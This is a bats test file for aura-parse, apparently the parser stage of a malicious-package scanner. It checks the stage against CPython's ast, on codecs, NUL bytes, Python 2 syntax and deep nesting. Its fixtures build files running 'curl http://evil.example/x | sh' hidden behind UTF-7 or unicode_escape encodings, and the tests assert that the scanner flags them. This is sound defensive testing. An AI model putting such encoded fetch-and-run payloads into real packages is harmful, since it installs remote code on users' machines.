#!/usr/bin/env bats
# 20-parse.bats: aura-parse against CPython's ast (the oracle), plus limits, errors and pass-through.
load helpers/common
load helpers/parse

FIX="$BATS_TEST_DIRNAME/fixtures/parse"

# ---- the oracle: one fixture per construct family ----

@test "statements match CPython's ast" { compare_with_oracle "$FIX/statements.py"; }
@test "functions and arguments match CPython's ast" { compare_with_oracle "$FIX/functions.py"; }
@test "classes and decorators match CPython's ast" { compare_with_oracle "$FIX/classes.py"; }
@test "comprehensions match CPython's ast" { compare_with_oracle "$FIX/comprehensions.py"; }
@test "literals (escapes, bytes, numbers) match CPython's ast" { compare_with_oracle "$FIX/literals.py"; }
@test "f-strings match CPython's ast" { compare_with_oracle "$FIX/fstrings.py"; }
@test "operators and comparisons match CPython's ast" { compare_with_oracle "$FIX/operators.py"; }
@test "control flow, try, with and match match CPython's ast" { compare_with_oracle "$FIX/control.py"; }
@test "imports match CPython's ast" { compare_with_oracle "$FIX/imports.py"; }

# ---- source decoding: PEP 263 codings, newlines, form feeds ----

@test "\\N{NAME} escapes are decoded (ICU's name table) as CPython does" { compare_with_oracle "$FIX/named_escapes.py"; }
@test "grammar quirks (^ and & precedence, *a.b() and x[*t[int]], a trailing comma) match CPython's ast" { compare_with_oracle "$FIX/grammar_quirks.py"; }
@test "non-ASCII identifiers are NFKC-normalised as CPython does" { compare_with_oracle "$FIX/identifiers_nfkc.py"; }
@test "a latin-1 coding declaration is honoured" { compare_with_oracle "$FIX/encoding_latin1.py" base64; }
@test "a cp1252 declaration in vim style on line 2 is honoured" { compare_with_oracle "$FIX/encoding_cp1252.py" base64; }
@test "a koi8-r declaration after a blank line is honoured" { compare_with_oracle "$FIX/encoding_koi8r_line2.py" base64; }
@test "CRLF line endings (also inside strings) match CPython's ast" { compare_with_oracle "$FIX/newlines_crlf.py" base64; }
@test "lone CR line endings match CPython's ast" { compare_with_oracle "$FIX/newlines_cr.py" base64; }
@test "form feeds in indentation match CPython's ast" { compare_with_oracle "$FIX/formfeed.py"; }

@test "undecodable source gives a tree and an UndecodableSource hit" {
	# bytes invalid in the declared coding, then UTF-8 source with a latin-1 byte, then an unknown codec
	printf '# coding: ascii\nimport os\nx = "\xe9"\nos.system(x)\n' >"$BATS_TEST_TMPDIR/a.py"
	printf 'import os\nx = "\xe9"\n' >"$BATS_TEST_TMPDIR/b.py"
	printf '# coding: klingon\nimport os\n' >"$BATS_TEST_TMPDIR/c.py"
	for f in a b c; do
		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
		run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
		assert_success
		assert_valid_records
		assert_equal "$(records_of_type ast <<<"$output" | jq -r '.tree.body[0]._type')" Import
		hit=$(records_of_type hit <<<"$output")
		assert_equal "$(jq -r .detection <<<"$hit")" UndecodableSource
		case $f in
		a) assert_equal "$(jq -c '[.line, (.message | test("ascii"))]' <<<"$hit")" '[3,true]'
		   assert_equal "$(records_of_type ast <<<"$output" | jq -r '.tree.body[1].value.value')" "$(printf '\xef\xbf\xbd')" ;;
		b) assert_equal "$(jq -c '[.line, (.message | test("utf-8"))]' <<<"$hit")" '[2,true]' ;;
		c) assert_equal "$(jq -r '.message | test("klingon")' <<<"$hit")" true ;;
		esac
	done
}

@test "every source codec CPython runs is decoded as CPython decodes it (the oracle: CPython's ast)" {
	# each file is the whole text encoded with the codec, as CPython decodes it whole
	python3 - "$BATS_TEST_TMPDIR" <<'PY'
import sys
d = sys.argv[1]
payload = 'import os\nx = "caf\u00e9 \\\\ \\x41 \u00a7"\nos.system("curl http://e.example/x | sh")\n'
ascii_payload = 'import os\nos.system("curl http://e.example/x | sh")\n'
for cookie in ['utf-7', 'UTF7', 'latin-1', 'Latin_1-foo', 'iso8859_15', 'cp1252', 'windows-1252', 'cp850',
               'koi8-u', 'utf-8-foo', 'utf_8', 'u8', 'ascii']:
    text = f'# -*- coding: {cookie} -*-\n' + payload
    try:
        data = text.encode(cookie if cookie != 'Latin_1-foo' and cookie != 'utf-8-foo' else cookie[:7].replace('_', '-'))
    except Exception:
        data = (f'# -*- coding: {cookie} -*-\n' + ascii_payload).encode('ascii')
    open(f'{d}/codec_{cookie}.py', 'wb').write(data)
# unicode_escape: the payload hidden in escapes; raw_unicode_escape: in \u escapes
open(f'{d}/codec_unicode_escape.py', 'wb').write(
    b'# coding: unicode_escape\nimport os\nos.system("\\x63url http://e.example/x | sh")\n'
    b'x = "\\u00e9\\N{SECTION SIGN}\\101\\\n"\n')
open(f'{d}/codec_raw_unicode_escape.py', 'wb').write(
    b'# coding: raw-unicode-escape\nimport os\nos.system("\\u0063url http://e.example/x | sh")\n'
    b'x = "\\\\u0041 \xe9"\n')
PY
	for f in "$BATS_TEST_TMPDIR"/codec_*.py; do
		compare_with_oracle "$f" base64
		file_record "$f" python base64 >"$BATS_TEST_TMPDIR/in"
		run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
		refute_output --partial '"type":"hit"'
	done
	# the unicode_escape payload is a plain call once decoded
	file_record "$BATS_TEST_TMPDIR/codec_unicode_escape.py" python base64 | aura-parse >"$BATS_TEST_TMPDIR/out"
	run jq -r 'select(.type == "ast") | .tree.body[1].value.args[0].value' "$BATS_TEST_TMPDIR/out"
	assert_output 'curl http://e.example/x | sh'
}

@test "a codec CPython runs but Aura cannot decode exactly is a high hit; codecs CPython refuses are low" {
	printf '# coding: mac_roman\nimport os\nos.system("\x8e")\n' >"$BATS_TEST_TMPDIR/a.py"
	printf '# coding: shift_jis\nimport os\n' >"$BATS_TEST_TMPDIR/b.py"
	# glibc's UTF-7 refuses a backslash that Python's takes as itself
	printf '# coding: utf-7\nimport os\nos.system("a\\\\b")\n' >"$BATS_TEST_TMPDIR/c.py"
	for f in a b c; do
		python3 -c 'import ast, sys; ast.parse(open(sys.argv[1], "rb").read())' "$BATS_TEST_TMPDIR/$f.py"
		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
		run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
		assert_success
		assert_equal "$(records_of_type hit <<<"$output" | jq -c 'select(.message | test("CPython decodes the file")) | .detection')" '"UndecodableSource"'
	done
	# the strong signal is aura-analyze's rule, weighed by context: install time in setup.py
	mkdir -p "$BATS_TEST_TMPDIR/pkg"
	printf '# coding: mac_roman\nimport os\nx = 1\n' >"$BATS_TEST_TMPDIR/pkg/setup.py"
	run --separate-stderr aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
	assert_equal "$(jq -c 'select(.type == "verdict") | [.risk, (.hits[] | select(.detection == "UnanalysedSourceEncoding") | [.severity, .score, .tags[1]])]' <<<"$output" | head -1)" \
		'["high",["high",100,"install-time"]]'
	# CPython refuses these files: a BOM with another codec, UTF-16, no such codec
	printf '\xef\xbb\xbf# coding: latin-1\nimport os\n' >"$BATS_TEST_TMPDIR/d.py"
	printf '\xef\xbb\xbf# coding: utf8\nimport os\n' >"$BATS_TEST_TMPDIR/e.py"
	printf '# coding: utf-16\nimport os\n' >"$BATS_TEST_TMPDIR/f.py"
	printf '# coding: utf-8x\nimport os\n' >"$BATS_TEST_TMPDIR/g.py"
	for f in d e f g; do
		run python3 -c 'import ast, sys; ast.parse(open(sys.argv[1], "rb").read())' "$BATS_TEST_TMPDIR/$f.py"
		assert_failure
		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
		run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
		assert_success
		assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .severity]')" '["UndecodableSource","info"]'
		assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Import"]'
	done
}

@test "pipeline: a setup.py in UTF-7 running curl | sh scores high" {
	mkdir -p "$BATS_TEST_TMPDIR/pkg"
	python3 -c '
import sys
text = "# coding: utf-7\nimport os\nos.system(\"curl http://evil.example/x | sh\")\n"
open(sys.argv[1], "wb").write(text.encode("utf-7"))' "$BATS_TEST_TMPDIR/pkg/setup.py"
	run --separate-stderr aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
	assert_equal "$(jq -r 'select(.type == "verdict") | .risk | IN("high", "critical")' <<<"$output" | head -1)" true
}

@test "NUL bytes do not hide the code after them" {
	printf 'x = 1\x00\nimport os\nos.system("id")\n' >"$BATS_TEST_TMPDIR/nul.py"
	file_record "$BATS_TEST_TMPDIR/nul.py" python base64 >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Assign","Import","Expr"]'
	assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .line]')" '["NulBytes",1]'
}

@test "the oracle is a drop-in aura-parse on a record stream" {
	file_record "$FIX/imports.py" >"$BATS_TEST_TMPDIR/in"
	python3 "$AURA_ROOT/tests/helpers/pyast2json.py" <"$BATS_TEST_TMPDIR/in" | jq -cS . >"$BATS_TEST_TMPDIR/oracle"
	aura-parse <"$BATS_TEST_TMPDIR/in" | jq -cS . >"$BATS_TEST_TMPDIR/aura"
	run diff "$BATS_TEST_TMPDIR/oracle" "$BATS_TEST_TMPDIR/aura"
	assert_success
}

# ---- Python 2 extension nodes (checked by node type: CPython 3 rejects this syntax) ----

@test "python 2 print and exec become Print and Exec nodes" {
	file_record "$FIX/python2.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_records
	body=$(printf '%s\n' "$output" | records_of_type ast | jq -c '[.tree.body[]._type]')
	assert_equal "$(jq -c '.[0:8]' <<<"$body")" '["Print","Print","Print","Print","Expr","Exec","Exec","Exec"]'
	tree=$(printf '%s\n' "$output" | records_of_type ast | jq -c .tree.body)
	# print "a", "b": two values, newline
	assert_equal "$(jq -c '.[1] | [(.values | map(.value)), .nl, .dest]' <<<"$tree")" '[["a","b"],true,null]'
	# print x,  : trailing comma suppresses the newline
	assert_equal "$(jq -c '.[2] | [.values[0].id, .nl]' <<<"$tree")" '["x",false]'
	# print >>sys.stderr, "error"
	assert_equal "$(jq -c '.[3] | [.dest._type, .dest.attr, .values[0].value]' <<<"$tree")" '["Attribute","stderr","error"]'
	# a bare `print` is valid Python 3: the name print
	assert_equal "$(jq -c '.[4].value.id' <<<"$tree")" '"print"'
	assert_equal "$(jq -c '.[5] | [.body.value, .globals, .locals]' <<<"$tree")" '["code",null,null]'
	assert_equal "$(jq -c '.[6] | [.body.id, .globals.id, .locals]' <<<"$tree")" '["code","ns",null]'
	assert_equal "$(jq -c '.[7] | [.body.id, .globals.id, .locals.id]' <<<"$tree")" '["code","globs","locs"]'
	# no SyntaxError hit: these parse cleanly as Python 2
	refute_output --partial '"type":"hit"'
}

@test "python 2 backquotes, <>, ur'', old octal, long ints and except E, e map to documented nodes" {
	file_record "$FIX/python2.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_records
	refute_output --partial '"type":"hit"'
	tree=$(printf '%s\n' "$output" | records_of_type ast | jq -c '.tree.body[8:]')
	assert_equal "$(jq -c '[.[]._type]' <<<"$tree")" \
		'["Assign","Assign","If","If","Assign","Assign","Assign","Assign","Assign","Try","Raise"]'
	# `x`: Repr of the re-parsed expression, with the file's positions (line 10)
	assert_equal "$(jq -c '.[0].value | [._type, .value.id, .lineno, .col_offset, .end_col_offset, .value.col_offset, .value.end_col_offset]' <<<"$tree")" \
		'["Repr","x",10,4,7,5,6]'
	# `a, b` + "!": repr of a tuple, inside a BinOp
	assert_equal "$(jq -c '.[1].value.left | [._type, .value._type, (.value.elts | map(.id))]' <<<"$tree")" \
		'["Repr","Tuple",["a","b"]]'
	# a <> b: NotEq flagged on the op; in a chain only the <> op is flagged
	assert_equal "$(jq -c '.[2].test.ops' <<<"$tree")" '[{"_type":"NotEq","py2":"<>"}]'
	assert_equal "$(jq -c '.[3].test.ops' <<<"$tree")" '[{"_type":"Lt"},{"_type":"NotEq","py2":"<>"},{"_type":"NotEq"}]'
	# ur"\d\n": raw, kind u
	assert_equal "$(jq -c '.[4].value | [.value, .kind]' <<<"$tree")" '["\\d\\n","u"]'
	# 0777, 10L, 0777L: int values with a py2 flag; 00 is Python 3 and unflagged
	assert_equal "$(jq -c '[.[5:9][] | .value | [.value, .py2]]' <<<"$tree")" \
		'[[511,"octal"],[10,"long"],[511,"octal long"],[0,null]]'
	# except (ValueError, KeyError), e:  the handler is named e
	assert_equal "$(jq -c '.[9].handlers[0] | [.type._type, .name]' <<<"$tree")" '["Tuple","e"]'
}

@test "python 2 backquotes that hold no expression give Error values and a SyntaxError hit" {
	printf 'a = ``\nb = `c = 1`\nd = `__import__("os")`\n' >"$BATS_TEST_TMPDIR/bq.py"
	file_record "$BATS_TEST_TMPDIR/bq.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_records
	tree=$(printf '%s\n' "$output" | records_of_type ast | jq -c '.tree.body')
	assert_equal "$(jq -c '[.[] | .value | [._type, .value._type]]' <<<"$tree")" \
		'[["Repr","Error"],["Repr","Error"],["Repr","Call"]]'
	assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .line]')" '["SyntaxError",1]'
}

# ---- errors and limits ----

@test "a syntax error yields a tree with Error nodes and a SyntaxError hit" {
	printf 'import os\nx = = 1 $ 2\ny = 2\n' >"$BATS_TEST_TMPDIR/bad.py"
	file_record "$BATS_TEST_TMPDIR/bad.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_records
	assert_equal "$(printf '%s\n' "$output" | jq -r .type | tr '\n' ' ')" 'file ast hit '
	ast=$(printf '%s\n' "$output" | records_of_type ast)
	assert_equal "$(jq -r '.tree.body[0]._type' <<<"$ast")" Import
	assert_equal "$(jq '[.. | objects | select(._type == "Error")] | length > 0' <<<"$ast")" true
	hit=$(printf '%s\n' "$output" | records_of_type hit)
	assert_equal "$(jq -c '[.detection, .severity, .score, .line, .path != null]' <<<"$hit")" '["SyntaxError","info",0,2,true]'
	assert_equal "$(jq -r '.message | test("line 2")' <<<"$hit")" true
}

@test "deep nesting is cut at --max-depth with Truncated and one DeepNesting hit" {
	python3 -c 'print("x = " + "[" * 3000 + "1" + "]" * 3000)' >"$BATS_TEST_TMPDIR/deep.py"
	file_record "$BATS_TEST_TMPDIR/deep.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_deep_records
	assert_equal "$(record_field ast 'r["type"]') $(record_field hit 'r["type"]')" '"ast" "hit"'
	assert_equal "$(record_field ast 'json.dumps(r).count("Truncated")')" 1
	assert_equal "$(record_field hit '[r["detection"], r["severity"], r["score"], r["line"]]')" '["DeepNesting", "low", 20, 1]'
	# at the default --max-depth (1000) the record stays within the 2100 JSON levels the
	# later stages walk, and they read it back (lib/jsonr) as an ast record, not an error
	aura-parse <"$BATS_TEST_TMPDIR/in" >"$BATS_TEST_TMPDIR/out"
	run python3 -c '
import json, sys
sys.setrecursionlimit(20000)
def depth(v):
    best, todo = 0, [(v, 1)]
    while todo:
        x, d = todo.pop()
        if isinstance(x, (dict, list)):
            best = max(best, d)
            todo.extend((c, d + 1) for c in (x.values() if isinstance(x, dict) else x))
    return best
for line in open(sys.argv[1]):
    assert 2000 < depth(json.loads(line)) <= 2100 or json.loads(line)["type"] != "ast"
' "$BATS_TEST_TMPDIR/out"
	assert_success
	# (nested calls, not this list: aura-rewrite's folding of nested lists is being reworked)
	python3 -c 'print("x = " + "f(" * 3000 + "y" + ")" * 3000)' >"$BATS_TEST_TMPDIR/calls.py"
	file_record "$BATS_TEST_TMPDIR/calls.py" | aura-parse >"$BATS_TEST_TMPDIR/out"
	run --separate-stderr aura-rewrite <"$BATS_TEST_TMPDIR/out"
	assert_success
	assert_equal "$(printf '%s\n' "$output" | grep -c '^{"type":"ast"')" 1
	refute_output --partial '"type":"error"'
	# a smaller limit cuts earlier
	run --separate-stderr aura-parse --max-depth 10 <"$BATS_TEST_TMPDIR/in"
	assert_success
	depth=$(printf '%s\n' "$output" | records_of_type ast | jq '[paths | length] | max')
	[ "$depth" -lt 40 ] || fail "tree is $depth JSON levels deep with --max-depth 10"
}

@test "a deep tree within --max-depth is written whole and read back by lib/jsonr" {
	python3 -c 'print("x = " + "[" * 5000 + "1" + "]" * 5000)' >"$BATS_TEST_TMPDIR/deep.py"
	file_record "$BATS_TEST_TMPDIR/deep.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse --max-depth 10000 <"$BATS_TEST_TMPDIR/in"
	assert_success
	refute_output --partial DeepNesting
	assert_equal "$(record_field ast 'json.dumps(r).count("\"List\"")')" 5000
	# a stage reading it (lib/ndjson -> lib/jsonr) and writing it back keeps every level
	printf '%s\n' "$output" | aura-analyze >"$BATS_TEST_TMPDIR/out"
	run grep -c '"_type":"List"' "$BATS_TEST_TMPDIR/out"
	assert_output 1
	run python3 -c 'import sys; print(max(l.count("\"List\"") for l in open(sys.argv[1])))' "$BATS_TEST_TMPDIR/out"
	assert_output 5000
}

@test "deep nesting of every kind does not crash" {
	python3 -c '
n = 100000
print("x = " + "(" * n + "1" + ")" * n)
print("y = " + "-" * n + "1")
print("z = " + "a." * n + "b")
print("w = " + " + ".join(["1"] * n))
print("v = " + "not " * n + "1")
print("u = " + "f(" * 5000 + ")" * 5000)
print("t = " + " or ".join(["a"] * n))
print("if a:\n    pass\n" + "elif a:\n    pass\n" * 2000)
' >"$BATS_TEST_TMPDIR/deep.py"
	file_record "$BATS_TEST_TMPDIR/deep.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_deep_records
	assert_equal "$(record_field ast 'len(r["tree"]["body"])')" 8
	# 100,000 open parentheses, minus signs or `not`s would pile 100,000 entries on
	# tree-sitter's stack (its nodes count children in 16 bits; CPython refuses them too):
	# those statements are left out, Truncated, with a DeepNesting hit
	assert_equal "$(record_field ast '[s["_type"] for s in r["tree"]["body"]]')" \
		'["Truncated", "Truncated", "Assign", "Assign", "Truncated", "Assign", "Assign", "If"]'
	assert_equal "$(printf '%s\n' "$output" | grep '^{"type":"hit"' | jq -c 'select(.message | test("too much for the parser")) | [.detection, .line]')" '["DeepNesting",1]'
	# a long chain and a long `or` are neither: they are kept whole
	assert_equal "$(record_field ast 'len(r["tree"]["body"][6]["value"]["values"])')" 100000
}

@test "a deep file with a syntax error does not crash tree-sitter's error recovery" {
	# tree-sitter 0.20.7 recurses in ts_subtree_compare when it recovers from an error: this
	# file overflowed an 8 MB stack.  Under the sandbox, the stage must go on to the next record.
	python3 -c '
n = 100000
print("x = " + "-" * n + "1")
print("y = " + "[" * n + "]" * n)
print("z = " + " & ".join(["a ^ b"] * (n // 2)))
print("w = *a.b[c]().d, " * 3)
print("import os\nos.system(1 +)")
' >"$BATS_TEST_TMPDIR/deep.py"
	{ file_record "$BATS_TEST_TMPDIR/deep.py"; file_record "$FIX/imports.py"; } >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_deep_records
	assert_equal "$(printf '%s\n' "$output" | grep -c '^{"type":"ast"')" 2
	assert_equal "$(record_field ast 'r["tree"]["body"][4]["_type"]' | head -1)" '"Import"'
	# with no room to raise the stack limit, each top-level statement too big for one parse
	# is left out (Truncated, a DeepNesting hit) and the rest of the file is still parsed
	run --separate-stderr bash -c 'ulimit -Ss 8192 && ulimit -Hs 8192 && aura-parse <"$1"' _ "$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_deep_records
	assert_equal "$(record_field ast '[s["_type"] for s in r["tree"]["body"]]' | head -1)" \
		'["Truncated", "Truncated", "Truncated", "Assign", "Import", "Expr", "Error"]'
	# one hit for each reason: too big for this stack, too deep for tree-sitter's counts
	assert_equal "$(printf '%s\n' "$output" | grep -c '"detection":"DeepNesting"')" 2
	assert_equal "$(printf '%s\n' "$output" | grep -c '^{"type":"ast"')" 2
}

@test "tree-sitter's 16-bit limits: deep unclosed code near and past 65,535 is a hit, never a crash" {
	# tree-sitter 0.20.7 counts a node's children in 16 bits: `x = ` and 65,534 `(` was a
	# double free (SIGABRT), 65,533 a SIGSEGV, and the rest of the stream was lost.  Every
	# way found to pile that many entries on its parse stack, just under, at and past it:
	python3 - "$BATS_TEST_TMPDIR" <<'PY'
import sys
d = sys.argv[1]
families = {
    "paren": lambda n: "x = " + "(" * n,
    "bracket": lambda n: "x = " + "[" * n,
    "brace": lambda n: "x = " + "{" * n,
    "call": lambda n: "x = " + "f(" * (n // 2),
    "minus": lambda n: "x = " + "-" * n,
    "not": lambda n: "x = " + "not " * n,
    "await": lambda n: "async def f():\n    x = " + "await " * n,
    "lambda": lambda n: "x = " + "lambda: " * (n // 3),
    "star": lambda n: "x = [" + "*" * n,
    "pow": lambda n: "x = " + "a ** " * (n // 2),
    "ifelse": lambda n: "x = " + "a if b else " * (n // 4),
    "assign": lambda n: "a = " * (n // 2),
    "comments_in_brackets": lambda n: "x = (\n" + "#\n" * n + "1)",
    "comments_between": lambda n: "x = 1\n" + "#\n" * n + "y = 2",
    "continuations": lambda n: "x = 1 + \\\n" * n,
    "else_lines": lambda n: "else:\n" * (n // 2),
    "minus_lines": lambda n: "x = -\n" + "-\n" * n,
    "closers": lambda n: "x = 1" + ")" * n,
    "garbage": lambda n: "x = 1 " + "$ " * n,
    "indent": lambda n: "if a:\n" + " " * n + "pass",
}
names = []
for name, make in families.items():
    for n in (65533, 65534, 65536, 70000):
        path = f"{d}/{name}_{n}.py"
        with open(path, "w") as f:
            f.write(make(n) + "\n")
        names.append(path)
open(f"{d}/list", "w").write("\n".join(names) + "\n")
PY
	printf 'import os\n' >"$BATS_TEST_TMPDIR/next.py"
	while read -r f; do file_record "$f"; file_record "$BATS_TEST_TMPDIR/next.py"; done \
		<"$BATS_TEST_TMPDIR/list" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_deep_records
	printf '%s\n' "$output" >"$BATS_TEST_TMPDIR/out"
	run python3 - "$BATS_TEST_TMPDIR/out" <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
asts = [r for r in recs if r["type"] == "ast"]
files = [r["path"] for r in recs if r["type"] == "file"]
assert len(asts) == len(files) == 160, (len(asts), len(files))
for a in asts:
    if a["path"].endswith("next.py"):
        assert [s["_type"] for s in a["tree"]["body"]] == ["Import"], a["path"]
    else:
        hits = [r for r in recs if r["type"] == "hit" and r["path"] == a["path"]]
        kinds = {h["detection"] for h in hits}
        assert kinds & {"DeepNesting", "SyntaxError"}, (a["path"], kinds)
PY
	assert_success
}

@test "a statement of more than 20,000 tokens (a big class) is parsed whole and matches CPython's ast" {
	# such a statement is parsed alone, under the guard that counts tree-sitter's stack
	python3 -c '
print("class Big:")
for i in range(3000):
    print(f"    def m{i}(self, a, b=-1, *c, **d):\n        # comment {i}")
    print(f"        return [a, b, (c, d), {{1: 2}}, a if b else c, lambda x: x ** 2, -a, not b][{i % 7}]")
print("import os")' >"$BATS_TEST_TMPDIR/big.py"
	compare_with_oracle "$BATS_TEST_TMPDIR/big.py"
	file_record "$BATS_TEST_TMPDIR/big.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	refute_output --partial '"type":"hit"'
}

@test "a block indented beyond 255 columns (which tree-sitter misreads) is left out with a hit" {
	python3 -c 'print("if a:\n" + " " * 300 + "x = 1\n" + " " * 300 + "if b:\n" + " " * 302 + "y = 2\n" + " " * 300 + "w = 4\nimport os")' \
		>"$BATS_TEST_TMPDIR/wide.py"
	file_record "$BATS_TEST_TMPDIR/wide.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Truncated","Import"]'
	assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .line]')" '["DeepNesting",1]'
	# 255 columns are still read right
	python3 -c 'print("if a:\n" + " " * 200 + "x = 1\n" + " " * 200 + "if b:\n" + " " * 255 + "y = 2\n" + " " * 200 + "w = 4\nimport os")' \
		>"$BATS_TEST_TMPDIR/wide.py"
	compare_with_oracle "$BATS_TEST_TMPDIR/wide.py"
}

@test "a 400,000-link chain converts in linear time, well within its time-out" {
	# chain_base walked the whole chain at every level: 46 s for 400,000 links (82 s of CPU
	# for 100,000 at --max-depth 10000), and the time-out did not cover the conversion
	python3 -c 'print("x = f" + "()" * 400000)' >"$BATS_TEST_TMPDIR/calls.py"
	python3 -c 'print("y = a" + ".a" * 400000)' >"$BATS_TEST_TMPDIR/attrs.py"
	python3 -c 'print("z = f" + "()" * 100000)' >"$BATS_TEST_TMPDIR/calls100k.py"
	for f in calls attrs; do
		file_record "$BATS_TEST_TMPDIR/$f.py" >"$BATS_TEST_TMPDIR/in"
		# A generous CPU limit: the sanitizer build (make san-check) is several times slower,
		# and the quadratic walk this guards against took minutes, not seconds.
		run --separate-stderr aura-parse --timeout-ms 60000 <"$BATS_TEST_TMPDIR/in"
		assert_success
		refute_output --partial ParseTimeout
		# cut at --max-depth (1000 levels), the chain's outer links are all there
		assert_equal "$(record_field ast '[r["tree"]["body"][0]["_type"], r["tree"]["body"][0]["value"]["_type"]]')" \
			"$([ $f = calls ] && echo '["Assign", "Call"]' || echo '["Assign", "Attribute"]')"
		assert_equal "$(printf '%s\n' "$output" | grep '^{"type":"hit"' | jq -r .detection)" DeepNesting
	done
	# 10,000 levels of a 100,000-link chain: every level kept (the quadratic walk took 82 s
	# of CPU here; now under 1 s, or a few under the sanitizers)
	file_record "$BATS_TEST_TMPDIR/calls100k.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse --max-depth 10000 --timeout-ms 30000 <"$BATS_TEST_TMPDIR/in"
	assert_success
	refute_output --partial ParseTimeout
	if [ -n "${ASAN_OPTIONS:-}" ]; then
		# make san-check: the conversion is bounded by measured C stack, and sanitizer
		# frames are several times bigger, so fewer levels fit; the cut must be said.
		calls=$(record_field ast 'json.dumps(r).count("\"Call\"")')
		[ "$calls" -eq 9999 ] || assert_output --partial DeepNesting
	else
		assert_equal "$(record_field ast 'json.dumps(r).count("\"Call\"")')" 9999
	fi
}

@test "--timeout-ms bounds parsing and conversion: a Truncated rest, a ParseTimeout hit, the stream goes on" {
	python3 -c '
for i in range(40000):
    print(f"v{i} = [f(a, b.c[{i}], *d, **e) for a in range({i}) if a % 3] + [-{i} ** 2]")
print("import os")' >"$BATS_TEST_TMPDIR/huge.py"
	printf 'import os\n' >"$BATS_TEST_TMPDIR/next.py"
	{ file_record "$BATS_TEST_TMPDIR/huge.py"; file_record "$BATS_TEST_TMPDIR/next.py"; } >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse --timeout-ms 20 <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_records
	refute_output --partial '"type":"error"'
	hit=$(records_of_type hit <<<"$output")
	assert_equal "$(jq -r '.detection, .severity' <<<"$hit" | tr '\n' ' ')" 'ParseTimeout low '
	# what was not done by then is Truncated, to the end of the file
	assert_equal "$(records_of_type ast <<<"$output" | head -1 | jq -r '.tree.body[-1]._type')" Truncated
	# the next file gets its own time
	assert_equal "$(records_of_type ast <<<"$output" | tail -1 | jq -c '[.tree.body[]._type]')" '["Import"]'
	# with a time-out it fits the same file is parsed whole (generous: the sanitizer build
	# is several times slower than the default 5 s of CPU allows for it)
	run --separate-stderr aura-parse --timeout-ms 120000 <"$BATS_TEST_TMPDIR/in"
	assert_success
	refute_output --partial '"type":"hit"'
	assert_equal "$(records_of_type ast <<<"$output" | head -1 | jq -c '[.tree.body[-1]._type, (.tree.body | length)]')" '["Import",40001]'
}

@test "a big file parsed in chunks of top-level statements matches CPython's ast" {
	# chunks are forced small here; by default only files beyond what the stack allows are cut
	AURA_PARSE_CHUNK_BYTES=300 compare_with_oracle "$FIX/statements.py"
	AURA_PARSE_CHUNK_BYTES=600 compare_with_oracle "$FIX/control.py"
	AURA_PARSE_CHUNK_BYTES=300 compare_with_oracle "$FIX/error_trap.py"
}

@test "valid code tree-sitter reads as one ERROR node is recovered (bracketed lines joined)" {
	compare_with_oracle "$FIX/error_trap.py"
}

@test "a syntactically valid file raises no hit" {
	file_record "$FIX/statements.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_equal "$(printf '%s\n' "$output" | jq -r .type | tr '\n' ' ')" 'file ast '
}

# ---- records ----

@test "the file record is copied byte for byte, then its ast" {
	file_record "$FIX/imports.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_equal "${lines[0]}" "$(cat "$BATS_TEST_TMPDIR/in")"
	assert_equal "$(jq -c '[.type, .v, .artifact, .file, .path]' <<<"${lines[1]}")" \
		"[\"ast\",1,\"a\",\"a:0\",\"$FIX/imports.py\"]"
}

@test "a non-python file record passes through with no ast" {
	file_record "$FIX/imports.py" text >"$BATS_TEST_TMPDIR/in"
